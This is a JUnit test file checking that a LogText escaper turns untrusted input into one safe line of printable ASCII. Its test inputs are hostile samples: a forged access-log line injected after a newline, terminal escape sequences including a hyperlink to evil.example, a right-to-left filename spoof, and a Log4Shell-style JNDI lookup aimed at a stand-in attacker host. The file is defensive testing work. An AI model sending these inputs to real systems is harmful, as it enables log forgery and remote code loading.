package dev.gatehouse.http;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class LogTextTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a\nb",
        "a\rb",
        "a\r\nb",
        "\n",
        "a\n127.0.0.1 - admin [22/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"",
        "\" 200 0 \"-\" \"-",
        "a\" \"b",
        "\"",
        "\\",
        "a\\",
        "\\\"",
        "\\x22",
        "\\n",
        "a\tb",
        "a\u0000b",
        "\u0001\u0002\u0003",
        "\u0007",
        "\b\b\b\b",
        "\u001b[2J",
        "\u001b[31mred\u001b[0m",
        "\u001b]0;title\u0007",
        "\u001b]8;;http://evil.example\u001b\\link",
        "\u009b31m",
        "\u007f",
        "\u0085next line",
        "\u2028line separator",
        "\u2029paragraph separator",
        "\u000bvertical tab",
        "\fform feed",
        "\u202egnp.exe",
        "\u2066isolate\u2069",
        "\u200bzero width",
        "\ufeffmark",
        "\u00a0blank",
        "\u00e9",
        "\ud83d\ude00",
        "\ud800",
        "\udc00",
        "\uffff",
        "${jndi:ldap://evil.example/a}\n",
        "%d{HH:mm} %msg%n\r",
        "{\"json\":\"x\"}\n{\"json\":\"y\"}",
        "\u0130\u0131",
        "\u8a79\u560a",
        "\u010a\u010d",
      })
  void textFromOutsideStaysOneLineOfPrintableAsciiWithoutQuotes(String payload) {
    String escaped = LogText.escape(payload);

    assertThat(escaped).matches("[\\x20-\\x7e]*").doesNotContain("\"");
    assertThat(escaped.replaceAll("\\\\x[0-9a-f]{2}|\\\\u[0-9a-f]{4}", "")).doesNotContain("\\");
    StringBuilder line = new StringBuilder("before ");
    LogText.append(line, payload);
    assertThat(line.toString()).isEqualTo("before " + escaped);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      ignoreLeadingAndTrailingWhitespace = false,
      value = {
        "/api/users?x=1&y='z'|/api/users?x=1&y='z'",
        "a b|a b",
        "{}|{}",
        "a\"b|a\\x22b",
        "a\\b|a\\x5cb",
        "\\x22|\\x5cx22",
        "\u00e9|\\xe9",
        "\u007f|\\x7f",
        "\u2028|\\u2028",
        "\ud83d\ude00|\\ud83d\\ude00",
      })
  void escapedTextTellsWhatWasThere(String text, String escaped) {
    assertThat(LogText.escape(text)).isEqualTo(escaped);
  }

  @Test
  void differentTextsStayDifferent() {
    assertThat(LogText.escape("\n")).isNotEqualTo(LogText.escape("\\x0a"));
    assertThat(LogText.escape("\\")).isNotEqualTo(LogText.escape("\\x5c"));
  }

  @Test
  void longTextIsCutAndSaysSo() {
    assertThat(LogText.escape("a".repeat(8192))).isEqualTo("a".repeat(8192));
    assertThat(LogText.escape("a".repeat(8193))).isEqualTo("a".repeat(8192) + "...");
    assertThat(LogText.escape("\n".repeat(1 << 20))).hasSizeLessThan(40_000).endsWith("...");
  }
}
